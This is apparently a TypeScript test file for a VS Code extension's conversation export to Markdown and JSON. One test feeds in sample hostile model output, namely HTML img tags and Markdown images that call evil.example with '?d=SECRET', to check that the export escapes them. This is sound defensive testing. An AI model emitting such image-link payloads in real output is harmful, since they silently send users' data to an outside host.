// Export Conversation in the extension host: a real conversation with the emulator, written as Markdown
// (opened in an editor) and as JSON with its interaction ids.
import * as assert from 'node:assert/strict';
import * as fs from 'node:fs';
import * as path from 'node:path';
import * as vscode from 'vscode';
import { startEmulator, type Emulator } from '../emulator/server';
import { cmd } from './support';

describe('export a conversation', function () {
  this.timeout(60_000);
  let emu: Emulator;
  const config = () => vscode.workspace.getConfiguration('geminiInteractions');
  let saved: unknown;
  before(async () => {
    saved = config().inspect('apiBaseUrl')?.globalValue;
    emu = await startEmulator();
    await config().update('apiBaseUrl', emu.url, vscode.ConfigurationTarget.Global);
    await cmd('setApiKey', 'test-key');
  });
  after(async () => {
    await config().update('apiBaseUrl', saved, vscode.ConfigurationTarget.Global);
    await cmd('newChat');
    await cmd('clearApiKey');
    await vscode.commands.executeCommand('workbench.action.closeAllEditors');
    await emu.close();
  });

  it('writes Markdown that opens in an editor, and JSON with the interaction ids', async () => {
    await cmd('newChat');
    emu.queueScenario({ name: 'text', thought: false, text: 'Here:\n\n```ts\nconst x = 1;\n```' });
    await cmd('internal.send', 'Show me a constant');
    const root = vscode.workspace.workspaceFolders![0].uri;
    const md = vscode.Uri.joinPath(root, 'exported.md');
    assert.equal(await cmd('internal.exportConversation', 'markdown', md.toString()), md.toString());
    const text = fs.readFileSync(md.fsPath, 'utf8');
    assert.match(text, /^# Show me a constant\n/);
    assert.match(text, /## You\n\nShow me a constant/);
    assert.match(text, /```ts\nconst x = 1;\n```/);
    assert.equal(vscode.window.activeTextEditor?.document.uri.fsPath, md.fsPath, 'the export is opened');

    const js = vscode.Uri.joinPath(root, 'exported.json');
    await cmd('internal.exportConversation', 'json', js.toString());
    const json = JSON.parse(fs.readFileSync(js.fsPath, 'utf8'));
    const turn = await cmd<{ interactionIds: string[] }>('internal.lastModelTurn');
    assert.deepEqual(json.turns[1].interactionIds, turn!.interactionIds);
    assert.ok(turn!.interactionIds.length > 0);
    fs.rmSync(path.join(root.fsPath, 'exported.md'));
    fs.rmSync(js.fsPath);
  });

  it('writes Markdown a preview shows without loading anything: HTML and remote images from the model are text and links', async () => {
    await cmd('newChat');
    await config().update('thinkingSummaries', true, vscode.ConfigurationTarget.Global);
    try {
      emu.queueScenario({
        name: 'text',
        thought: 'Planning.\n</details>\n<img src="https://evil.example/thought.png">',
        text: 'Hi <img src=https://evil.example/a.png?d=SECRET> and ![x](https://evil.example/b.png?d=SECRET)\n\n```ts\nconst v: Array<number> = [];\n<img src=https://evil.example/unclosed.png>',
      });
      await cmd('internal.send', 'Show me <b>HTML</b>');
    } finally {
      await config().update('thinkingSummaries', undefined, vscode.ConfigurationTarget.Global);
    }
    const turn = await cmd<{ parts: { kind: string; text?: string }[] }>('internal.lastModelTurn');
    assert.match(turn!.parts.find((p) => p.kind === 'thought')?.text ?? '', /<\/details>/, 'the thought reached the conversation as the model wrote it');
    const md = vscode.Uri.joinPath(vscode.workspace.workspaceFolders![0].uri, 'exported-hostile.md');
    await cmd('internal.exportConversation', 'markdown', md.toString());
    const text = fs.readFileSync(md.fsPath, 'utf8');
    fs.rmSync(md.fsPath);
    assert.doesNotMatch(text.replace(/^```ts\n[^]*?^```$/m, ''), /<(img|details|b)\b/i, 'no HTML outside code');
    assert.ok(text.includes('## You\n\nShow me &lt;b>HTML&lt;/b>'), text);
    assert.ok(text.includes('Hi &lt;img src=https://evil.example/a.png?d=SECRET> and \\![x](https://evil.example/b.png?d=SECRET)'), 'the remote image is a plain link');
    assert.match(text, /> \*\*Thoughts\*\*\n>\s*\n> Planning\.\n> &lt;\/details>\n> &lt;img src="https:\/\/evil\.example\/thought\.png">/, 'the thought is one quote');
    // The open fence ends with the answer: its code keeps its <, and the rest of the file is not code.
    assert.ok(text.includes('```ts\nconst v: Array<number> = [];\n<img src=https://evil.example/unclosed.png>\n```\n'), text);
  });
});
